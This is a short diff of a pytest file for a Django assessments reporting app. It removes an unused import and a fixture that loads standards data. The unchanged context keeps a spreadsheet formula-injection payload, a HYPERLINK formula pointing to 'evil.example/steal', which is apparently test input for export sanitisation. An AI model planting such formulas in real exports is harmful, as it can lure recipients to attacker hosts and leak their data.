@@ -3,14 +3,13 @@ import datetime
 import io
 
 import pytest
-from django.core.management import call_command
 from django.urls import reverse
 from pypdf import PdfReader
 
 from assessments import reports, services
 from assessments.models import Action, RatingValue, ReportJob
 from organisations.models import Role
-from standard.models import Element, Standard
+from standard.models import Element
 
 HYPERLINK = '=HYPERLINK("http://evil.example/steal","Click for details")'
 
@@ -19,13 +18,6 @@ HYPERLINK = '=HYPERLINK("http://evil.example/steal","Click for details")'
 def media(settings, tmp_path):
     settings.MEDIA_ROOT = tmp_path
     return tmp_path
-
-
-@pytest.fixture
-def standard(db):
-    call_command("load_sectors", verbosity=0)
-    call_command("load_standard", verbosity=0)
-    return Standard.objects.get(version="2026")
 
 
 def rate(membership, self_assessment, code, value, narrative=""):
